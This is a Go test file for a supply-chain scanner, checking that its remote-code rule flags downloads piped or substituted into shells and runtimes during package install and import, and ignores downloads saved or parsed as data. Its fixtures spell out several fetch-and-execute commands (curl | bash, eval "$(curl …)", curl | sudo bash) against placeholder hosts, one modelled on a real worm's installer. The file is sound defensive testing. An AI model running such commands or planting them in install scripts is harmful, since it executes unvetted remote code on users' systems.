package verdict

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestPipedDownload: a download piped or substituted into a shell or a
// runtime is remote code (DBX019, high) in a lifecycle script and in a
// child process; downloads saved to a file or parsed as data are not.
func TestPipedDownload(t *testing.T) {
	sh := func(script string) profile.Process {
		return profile.Process{Argv: []string{"sh", "-c", script}, Binary: "/bin/dash", Result: "ok"}
	}
	tests := []struct {
		name string
		p    profile.Process
		want string
	}{
		{"curl | bash (Shai-Hulud 2.0's Bun installer)", sh("curl -fsSL https://bun-sh.invalid/install | bash"), "a download piped into bash"},
		{"wget -O- | sh", sh("wget -q -O- http://198.51.100.7/x.sh | sh"), "a download piped into sh"},
		{"curl | sudo -E bash -s --", sh("curl -s http://a.invalid/i | sudo -E bash -s -- --yes"), "a download piped into bash"},
		{"curl | /usr/bin/env python3", sh("curl -s http://a.invalid/p.py | /usr/bin/env python3"), "a download piped into python3"},
		{"curl | node -", sh("cd /tmp && curl -s http://a.invalid/s.js | node -"), "a download piped into node"},
		{"bash <(curl)", profile.Process{Argv: []string{"bash", "-c", "bash <(curl -s http://a.invalid/i)"}}, "a download run by a shell"},
		{"sh -c \"$(wget -O- …)\"", sh(`sh -c "$(wget -qO- http://a.invalid/i)"`), "a download run by a shell"},
		{"eval \"$(curl)\"", sh(`eval "$(curl -s http://a.invalid/env)"`), "a download run by a shell"},
		{". <(curl)", sh(`. <(curl -s http://a.invalid/env)`), "a download run by a shell"},
		{"saved to a file", sh("curl -fsSL -o /tmp/x.tgz https://a.invalid/x.tgz && tar xzf /tmp/x.tgz"), ""},
		{"parsed as JSON by python -c", sh(`curl -s http://a.invalid/v | python3 -c "import json,sys; print(json.load(sys.stdin)['v'])"`), ""},
		{"piped into tar", sh("curl -sL https://a.invalid/x.tgz | tar xz"), ""},
		{"piped into shasum", sh("curl -sL https://a.invalid/x | sha256sum"), ""},
		{"not a shell", profile.Process{Argv: []string{"curl", "http://a.invalid/|bash"}}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := pipedDownload(tc.p); got != tc.want {
				t.Fatalf("pipedDownload = %q, want %q", got, tc.want)
			}
			for _, phase := range []string{profile.PhaseInstall, profile.PhaseImport} {
				b := &profile.Behavior{Processes: []profile.Process{tc.p}}
				p := &profile.Profile{Schema: profile.Schema, Dependencies: []profile.Dependency{pkgAt("node_modules/evil", map[string]*profile.Behavior{phase: b})}}
				sev, fired := rulesOn(Evaluate(Input{Profile: p}, Options{}), "node_modules/evil")[RuleRemoteCode]
				if fired != (tc.want != "") || fired && sev != High {
					t.Errorf("%s phase: DBX019 fired %v (%v), want %v", phase, fired, sev, tc.want != "")
				}
			}
		})
	}
}
